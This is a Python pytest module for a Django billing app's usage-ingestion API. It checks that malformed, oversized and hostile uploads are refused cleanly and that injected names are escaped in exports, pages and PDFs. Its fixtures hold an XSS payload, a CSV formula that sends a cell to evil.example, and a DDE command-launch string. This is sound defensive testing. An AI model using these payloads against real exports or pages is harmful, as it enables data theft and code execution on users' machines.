"""Hostile inputs through the real ingestion endpoints, built by mutating the real files of
../shared/data (the Azure and Mooncake traces, the FOCUS 1.0 sample, OpenAI's usage and cost
pages): huge numbers, NaN and infinities, wrong encodings, byte-order marks, truncated files,
very long fields, many columns, empty files, files of another type, oversized uploads, and
CSV / HTML injection in names that end up in exports, pages and PDFs.

Every case gets a clear answer — the status and message of API.md's error shape, or a run whose
status and message say what happened, with rejected rows kept with their reasons — and nothing
is stored half-way: the counts of records, cost lines, rejected rows and runs are compared
before and after."""

from __future__ import annotations

import gzip
import io
import json
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from core.roles import Role
from core.testing import SHARED_DATA, assert_error_shape, needs_shared_data, token_client
from usage.models import DailyRollup, IngestionRun, RejectedRow, Source, UsageRecord, VendorCostLine
from usage.tests.factories import world

pytestmark = [pytest.mark.django_db, needs_shared_data]

AZURE = SHARED_DATA / "azure-llm-trace-2023" / "AzureLLMInferenceTrace_code.csv"
MOONCAKE = SHARED_DATA / "mooncake-traces" / "conversation_trace.jsonl"
FOCUS = SHARED_DATA / "focus-sample-1.0" / "focus_sample.csv"
OPENAI_USAGE = SHARED_DATA / "openai-usage-costs-api" / "examples" / "usage_completions.response.json"
OPENAI_COSTS = SHARED_DATA / "openai-usage-costs-api" / "examples" / "costs.response.json"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
XSS = '"><img src=x onerror=alert(1)><script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def lines(path, n: int) -> list[str]:
    with open(path, encoding="utf-8-sig") as handle:
        return [next(handle).rstrip("\n") for _ in range(n)]


def generic_csv(n: int = 20) -> str:
    """The real Azure code trace's first requests as generic CSV records."""
    rows = [line.split(",") for line in lines(AZURE, n + 1)[1:]]
    out = ["vendor,model,bucket_start,input_tokens,output_tokens,external_id"]
    for i, (at, ctx, gen) in enumerate(rows):
        out.append(f"openai,gpt-4o,{at.replace(' ', 'T')[:26]}Z,{ctx},{gen},az-{i}")
    return "\n".join(out) + "\n"


def azure(n: int = 20) -> str:
    return "\n".join(lines(AZURE, n + 1)) + "\n"


def mooncake(n: int = 20) -> str:
    return "\n".join(lines(MOONCAKE, n)) + "\n"


def focus(n: int = 20) -> str:
    return "\n".join(lines(FOCUS, n + 1)) + "\n"


def real(fmt: str) -> str:
    return {
        "generic_csv": generic_csv,
        "request_trace": azure,
        "focus_csv": focus,
        "openai_usage": lambda: OPENAI_USAGE.read_text(),
        "openai_costs": lambda: OPENAI_COSTS.read_text(),
        "ndjson": lambda: "\n".join(json.dumps(r) for r in records(10)) + "\n",
    }[fmt]()


def records(n: int, **overrides) -> list[dict]:
    return [
        {
            "source": "gw",
            "vendor": "openai",
            "model": "gpt-4o",
            "bucket_start": f"2026-03-01T{i % 24:02d}:00:00Z",
            "input_tokens": 1000 + i,
            "output_tokens": 10,
            "external_id": f"h-{i}",
            **overrides,
        }
        for i in range(n)
    ]


def state() -> tuple[int, ...]:
    return (
        UsageRecord.objects.count(),
        VendorCostLine.objects.count(),
        RejectedRow.objects.count(),
        IngestionRun.objects.count(),
        DailyRollup.objects.count(),
    )


@pytest.fixture
def api(role_world, django_capture_on_commit_callbacks):
    from procurement.models import Vendor
    from procurement.services import vendor_save

    world()
    Source.objects.create(slug="oa", name="OpenAI admin", vendor=Vendor.objects.get(slug="openai"))
    Source.objects.create(slug="focus", name="FOCUS", format="focus_csv")
    for slug, name in (("aws", "AWS"), ("microsoft", "Microsoft"), ("oracle", "Oracle")):
        vendor_save(actor=None, slug=slug, name=name, kind="cloud", country="US", billing_currency="USD", aliases=[])
    client = token_client(role_world.user(Role.FINANCE))

    def upload(content: bytes | str, fmt: str, name: str = "usage.csv", **fields):
        data = content.encode() if isinstance(content, str) else content
        source = {"focus_csv": "focus", "openai_usage": "oa", "openai_costs": "oa"}.get(fmt, "gw")
        if fmt == "request_trace":
            fields = {"vendor": "openai", "model": "gpt-4o", "start": "2026-03-01T00:00:00", **fields}
        with django_capture_on_commit_callbacks(execute=True):
            return client.post(
                "/api/v1/usage/files",
                {"file": SimpleUploadedFile(name, data), "format": fmt, "source": source, **fields},
                format="multipart",
            )

    def run(response) -> dict:
        assert response.status_code == 202, response.content
        return client.get(f"/api/v1/usage/runs/{response.json()['run']}/").json()

    def push(body, content_type="application/json", query=""):
        data = body if isinstance(body, (bytes, str)) else json.dumps(body)
        return client.generic("POST", f"/api/v1/usage/records{query}", data, content_type=content_type)

    client.upload, client.run, client.push, client.world = upload, run, push, role_world
    return client


# JSON records ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b'[{"vendor": "openai", "input_tokens": 1e400}]', "not valid JSON"),
        (b'[{"vendor": "openai", "latency_ms": NaN}]', "not valid JSON"),
        (b'[{"vendor": "openai", "latency_ms": Infinity}]', "not valid JSON"),
        ('[{"vendor": "openai", "model": "gpt-4o-é"}]'.encode("latin-1"), "not valid JSON"),
        ('[{"vendor": "openai"}]'.encode("utf-16"), "not valid JSON"),
        ('[{"vendor": "openai"}]'.encode("utf-16-le"), "not valid JSON"),
        (b'[{"vendor": "openai", "model": "\\ud800"}]', "not valid JSON"),
        (b'[{"vendor": "openai", "model": "gpt', "not valid JSON"),
        (b"", "not valid JSON"),
        (b'{"vendor": "openai"}', "must be a JSON array"),
    ],
    ids=[
        "1e400",
        "NaN",
        "Infinity",
        "latin-1",
        "utf-16-bom",
        "utf-16",
        "lone-surrogate",
        "truncated",
        "empty",
        "object",
    ],
)
def test_a_body_that_is_not_a_json_array_is_refused_whole(api, body, message):
    before = state()
    response = api.push(body)
    assert response.status_code == 400, response.content
    assert_error_shape(response)
    assert message in response.json()["message"]
    assert state() == before


def test_a_utf8_bom_before_the_json_array_is_read(api):
    response = api.push(b"\xef\xbb\xbf" + json.dumps(records(2)).encode())
    assert response.status_code == 200, response.content
    assert response.json()["accepted"] == 2


@pytest.mark.parametrize("atomic", [False, True])
def test_hostile_values_are_rejected_rows_with_reasons_beside_good_ones(api, atomic):
    bad = [
        ({"input_tokens": 2**70}, "larger than a 64-bit count"),
        ({"input_tokens": 10**30}, "larger than a 64-bit count"),
        ({"input_tokens": -1}, "must be ≥ 0"),
        ({"input_tokens": 1.5}, "whole number"),
        ({"input_tokens": "12"}, "whole number"),
        ({"output_tokens": 2**64}, "larger than a 64-bit count"),
        ({"latency_ms": -0.5}, "finite number ≥ 0"),
        ({"latency_ms": 1e308 * 10}, "not valid JSON"),  # inf: json.dumps writes Infinity
        ({"model": "x" * 1_000_000}, "model"),
        ({"model": "gpt\x00-4o"}, "NUL"),
        ({"project_id": "p\x00"}, "NUL"),
        ({"tags": {"team": "a\x00b"}}, "NUL"),
        ({"tags": {"team": 5}}, "tags"),
        ({"bucket_start": "2026-02-30T00:00:00Z"}, "RFC 3339"),
        ({"bucket_start": "9999-12-31T23:59:59+14:00"}, "future"),
        ({"department": "<script>"}, "department"),
    ]
    for overrides, reason in bad:
        if reason == "not valid JSON":
            continue
        before = state()
        batch = records(3) + records(1, external_id="bad", **overrides)
        response = api.push(batch, query="?atomic=true" if atomic else "")
        assert response.status_code == (400 if atomic else 200), (overrides, response.content)
        body = response.json()
        errors = body["extra"]["errors"] if atomic else body["errors"]
        assert [e["index"] for e in errors] == [3], (overrides, body)
        assert any(reason in r for r in errors[0]["reasons"]), (overrides, errors)
        if atomic:
            assert_error_shape(response)
            assert state() == before, overrides  # nothing, not even the rejected row
        else:
            assert body["accepted"] + body["duplicates"] == 3
            kept = RejectedRow.objects.filter(run_id=body["run"]).get()
            assert kept.row == 3 and any(reason in r for r in kept.reasons)
    assert UsageRecord.objects.count() == (0 if atomic else 3)  # the good ones, once


def test_other_content_types_and_oversized_bodies(api, settings):
    before = state()
    response = api.push("vendor,model\n", content_type="text/csv")
    assert response.status_code == 415 and "JSON" in response.json()["message"]
    settings.USAGE_MAX_BODY_BYTES = 1000
    response = api.push(records(50))
    assert response.status_code == 413 and "limit" in response.json()["message"]
    settings.USAGE_MAX_RECORDS_PER_REQUEST = 5
    settings.USAGE_MAX_BODY_BYTES = 10**6
    response = api.push(records(6))
    assert response.status_code == 413 and "limit is 5" in response.json()["message"]
    for r in (response,):
        assert_error_shape(r)
    assert state() == before


def test_ndjson_with_bom_bad_lines_and_bad_bytes(api):
    good = "\n".join(json.dumps(r) for r in records(3))
    response = api.push(("\ufeff" + good + "\nnot json\n").encode(), content_type="application/x-ndjson")
    assert response.status_code == 200, response.content
    assert (response.json()["accepted"], response.json()["rejected"]) == (3, 1)
    before = state()
    response = api.push(good.encode() + b"\n\xff\xfe\n", content_type="application/x-ndjson")
    assert response.status_code == 400 and "not UTF-8" in response.json()["message"]
    assert state() == before


# Files -------------------------------------------------------------------------------------------------------

FORMATS = ["generic_csv", "ndjson", "request_trace", "focus_csv", "openai_usage", "openai_costs"]


def zipped(text: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("usage.csv", text)
    return out.getvalue()


@pytest.mark.parametrize("fmt", FORMATS)
def test_files_of_another_type_or_encoding_are_refused_at_upload(api, fmt):
    text = real(fmt)
    accented = text.replace("openai", "opénai", 1) if "openai" in text else "é" + text
    cases = {
        "png renamed": (PNG, "a PNG image"),
        "gzip": (gzip.compress(text.encode()), "a gzip archive"),
        "truncated gzip": (gzip.compress(text.encode())[:40], "a gzip archive"),
        "zip / xlsx": (zipped(text), "a ZIP archive"),
        "truncated zip": (zipped(text)[:60], "a ZIP archive"),
        "utf-16 with bom": (text.encode("utf-16"), "UTF-16"),
        "utf-16 without bom": (text.encode("utf-16-le"), "NUL byte"),
        "latin-1": (accented.encode("latin-1"), "not UTF-8"),
        "invalid utf-8 at the end": (text.encode() + b"\xc3\x28", "not UTF-8"),
    }
    before = state()
    for case, (content, message) in cases.items():
        response = api.upload(content, fmt, name="usage.csv")
        assert response.status_code == 415, (case, response.content)
        assert_error_shape(response)
        assert message in response.json()["message"], (case, response.json())
    assert state() == before


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_utf8_bom_changes_nothing(api, fmt):
    plain = api.run(api.upload(real(fmt), fmt))
    assert plain["status"] == "succeeded", plain["message"]
    assert plain["received"] > 0
    again = api.run(api.upload("\ufeff" + real(fmt), fmt))
    assert again["status"] == "succeeded", again["message"]
    # the same rows again: duplicates (a request trace keys its requests by the file's hash)
    if fmt != "request_trace":
        assert again["accepted"] == 0 and again["duplicates"] == plain["accepted"], (plain, again)


def test_empty_header_only_oversized(api, settings):
    before = state()
    response = api.upload(b"", "generic_csv")
    assert response.status_code == 400 and "empty" in response.json()["message"]
    settings.USAGE_UPLOAD_MAX_BYTES = 1000
    response = api.upload(generic_csv(100), "generic_csv")
    assert response.status_code == 413, response.content
    assert_error_shape(response)
    assert "limited to 1000 bytes" in response.json()["message"]
    assert state() == before
    settings.USAGE_UPLOAD_MAX_BYTES = 64 * 1024 * 1024
    header = api.run(api.upload(generic_csv(0), "generic_csv"))
    assert header["status"] == "succeeded" and header["received"] == 0
    header = api.run(api.upload(focus(0), "focus_csv"))
    assert header["status"] == "succeeded" and header["received"] == 0


def test_an_oversized_multipart_body_is_refused_before_it_is_read(api, settings):
    settings.USAGE_UPLOAD_MAX_BYTES = 1000
    response = Client().generic(
        "POST",
        "/api/v1/usage/files",
        b"x" * 10,
        content_type="multipart/form-data; boundary=x",
        HTTP_AUTHORIZATION=api._credentials["HTTP_AUTHORIZATION"],
        CONTENT_LENGTH=str(10**9),
    )
    assert response.status_code == 413 and "limited to 1000 bytes" in response.json()["message"]


@pytest.mark.parametrize("fmt", ["generic_csv", "request_trace", "focus_csv"])
def test_truncated_csv_files(api, fmt):
    text = real(fmt)
    mid_row = text[: text.rindex("\n", 0, len(text) - 1) + 12]  # the last row cut after 11 characters
    result = api.run(api.upload(mid_row, fmt))
    assert result["status"] == "succeeded", result["message"]
    assert result["rejected"] == 1, result  # the cut row, kept with its reason
    rejected = api.get(f"/api/v1/usage/runs/{result['id']}/rejected/").json()["results"]
    assert rejected[0]["reasons"] and rejected[0]["raw"], rejected
    assert result["received"] == result["accepted"] + result["duplicates"] + result["rejected"] + result["restated"]
    # cut inside a quoted cell: the rest of the file is that cell
    header, first, *_rest = text.splitlines()
    quoted = "\n".join([header, first, first[:5] + '"' + first[5:12]])
    result = api.run(api.upload(quoted, fmt))
    assert result["status"] in ("succeeded", "failed"), result
    assert result["message"]
    if result["status"] == "succeeded":
        assert result["rejected"] == 1


@pytest.mark.parametrize("fmt", ["openai_usage", "openai_costs", "ndjson"])
def test_truncated_json_files_store_nothing(api, fmt):
    text = real(fmt)
    before = state()
    cut = text[: len(text) * 2 // 3]
    result = api.run(api.upload(cut, fmt, name="page.json"))
    if fmt == "ndjson":  # one record per line: the cut line is a rejected row
        assert result["status"] == "succeeded" and result["rejected"] == 1, result
        return
    assert result["status"] == "failed" and "cut off" in result["message"], result
    after = state()
    assert after[:3] == before[:3] and after[4] == before[4]  # only the failed run itself


@pytest.mark.parametrize("fmt", ["generic_csv", "focus_csv", "request_trace"])
def test_very_long_fields_and_many_columns(api, fmt):
    text = real(fmt)
    header, first, *rest = text.splitlines()
    long_cell = "\n".join([header, first + "," + "x" * 1_000_000, *rest]) + "\n"
    before = state()
    result = api.run(api.upload(long_cell, fmt))
    assert result["message"], result
    if result["status"] == "succeeded":
        assert result["rejected"] >= 1 or fmt != "generic_csv", result
    else:
        assert state()[:3] == before[:3] and "cannot be read" in result["message"], result
    wide_header = header + "," + ",".join(f"c{i}" for i in range(10_000))
    wide = "\n".join([wide_header, *(row + "," * 10_000 for row in [first, *rest])]) + "\n"
    result = api.run(api.upload(wide, fmt))
    assert result["status"] == "succeeded", result["message"]


def test_hostile_numbers_in_files(api):
    head = "vendor,model,bucket_start,input_tokens,output_tokens,latency_ms,external_id"
    rows = [
        "openai,gpt-4o,2026-03-01T00:00:00Z,1e400,1,,n1",
        "openai,gpt-4o,2026-03-01T00:00:00Z,NaN,1,,n2",
        "openai,gpt-4o,2026-03-01T00:00:00Z,Infinity,1,,n3",
        "openai,gpt-4o,2026-03-01T00:00:00Z,-0,1,,n4",
        f"openai,gpt-4o,2026-03-01T00:00:00Z,{2**70},1,,n5",
        f"openai,gpt-4o,2026-03-01T00:00:00Z,{10**30},1,,n6",
        "openai,gpt-4o,2026-03-01T00:00:00Z,5,1,NaN,n7",
        "openai,gpt-4o,2026-03-01T00:00:00Z,5,1,inf,n8",
        "openai,gpt-4o,2026-03-01T00:00:00Z,5,1,1e400,n9",
        "openai,gpt-4o,2026-03-01T00:00:00Z,5,1,12.5,ok",
    ]
    result = api.run(api.upload("\n".join([head, *rows]), "generic_csv"))
    assert (result["status"], result["accepted"], result["rejected"]) == ("succeeded", 1, 9), result
    kept = RejectedRow.objects.filter(run_id=result["id"]).order_by("row")
    assert all(row.reasons for row in kept)
    assert UsageRecord.objects.get().external_id == "ok"
    # FOCUS costs: the real sample's first row with hostile BilledCost values
    header, first = focus(1).splitlines()
    cells = first.split(",")
    rows = []
    for value in ("NaN", "Infinity", "-Infinity", "1e400", "9" * 30, "abc"):
        changed = list(cells)
        changed[1] = value
        rows.append(",".join(changed))
    result = api.run(api.upload("\n".join([header, *rows]) + "\n", "focus_csv"))
    assert result["status"] == "succeeded", result["message"]
    stored = {str(line.amount) for line in VendorCostLine.objects.all()}
    assert not stored & {"NaN", "Infinity", "-Infinity"}, stored  # never a cost that is not a number
    assert result["rejected"] >= 4, result  # NaN, ±Infinity, abc


# Injection ---------------------------------------------------------------------------------------------------


def test_formula_and_html_in_names_are_neutralised_in_exports_pages_and_pdfs(api):
    from datetime import date

    import openpyxl
    from pypdf import PdfReader

    from billing.services.invoices import invoices_generate
    from billing.services.periods import period_close

    finance = api.world.user(Role.FINANCE)
    admin = token_client(api.world.user(Role.ADMIN))
    department = api.post("/api/v1/departments/", {"code": "EVIL", "name": FORMULA + XSS}, format="json")
    assert department.status_code == 201, department.content
    vendor = api.world.user(Role.PROCUREMENT)
    response = token_client(vendor).post(
        "/api/v1/vendors/",
        {
            "slug": "evil",
            "name": "@SUM(1+1)*cmd|' /C calc'!A0" + XSS,
            "kind": "producer",
            "country": "US",
            "billing_currency": "USD",
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    pushed = api.push(records(2, model=FORMULA, department="EVIL") + records(1, model=XSS, external_id="x"))
    assert pushed.status_code == 200 and pushed.json()["accepted"] == 3, pushed.content
    priced = [{**r, "external_id": f"evil-{i}"} for i, r in enumerate(records(2, department="EVIL"))]
    assert api.push(priced).json()["accepted"] == 2  # a priced model, for an invoice of that department
    api.push([{"source": "gw", "vendor": "openai", "model": XSS, "bucket_start": "nope", "input_tokens": 1}])

    browser = Client()
    browser.force_login(finance)
    # exports: every formula-looking text cell starts with a quote
    export = browser.get("/usage/", {"start": "2026-03-01", "end": "2026-04-01", "group_by": "model", "_export": "csv"})
    assert export.status_code == 200
    text = export.content.decode()
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    export = browser.get(
        "/usage/", {"start": "2026-03-01", "end": "2026-04-01", "group_by": "model", "_export": "xlsx"}
    )
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(export.content)).active.iter_rows() for c in row]
    names = [c for c in cells if isinstance(c, str) and "HYPERLINK" in c]
    assert names and all(c.startswith("'=") for c in names), names
    for url in ("/procurement/vendors/", "/procurement/departments/"):
        csv_export = browser.get(url, {"_export": "csv"})
        if csv_export.status_code == 200 and csv_export["Content-Type"].startswith("text/csv"):
            body = csv_export.content.decode()
            assert "HYPERLINK" in body or "SUM(1+1)" in body, url
            assert ",=HYPERLINK" not in body and ",@SUM" not in body and "\n@SUM" not in body, url
    # pages: the names are escaped
    for url in (
        "/usage/?start=2026-03-01&end=2026-04-01&group_by=model",
        "/usage/?start=2026-03-01&end=2026-04-01&group_by=department",
        "/procurement/vendors/",
        f"/usage/runs/{pushed.json()['run']}/",
    ):
        page = browser.get(url)
        if page.status_code != 200:
            continue
        html = page.content.decode()
        assert "<script>alert" not in html and "<img src=x onerror" not in html, url
    rejected_run = IngestionRun.objects.order_by("-id").first()
    page = browser.get(f"/usage/runs/{rejected_run.pk}/")
    assert page.status_code == 200
    assert "<img src=x onerror" not in page.content.decode() and "&lt;img src=x onerror" in page.content.decode()
    # the invoice PDF of the department with that name: the text is there, as text
    period_close(month=date(2026, 3, 1), actor=finance, acknowledge_unrated=True, acknowledge_unallocated=True)
    invoices, summary = invoices_generate(month=date(2026, 3, 1), actor=finance)
    evil = next((i for i in invoices if i.department.code == "EVIL"), None)
    assert evil is not None, (summary, [i.department.code for i in invoices])
    pdf = admin.get(f"/api/v1/invoices/{evil.pk}/pdf")
    if pdf.status_code == 403:
        pdf = api.get(f"/api/v1/invoices/{evil.pk}/pdf")
    assert pdf.status_code == 200, pdf.content[:200]
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    flat = " ".join(text.split())
    assert "onerror=alert(1)>" in flat.replace(" ", "") or "<script>" in flat, flat[:2000]
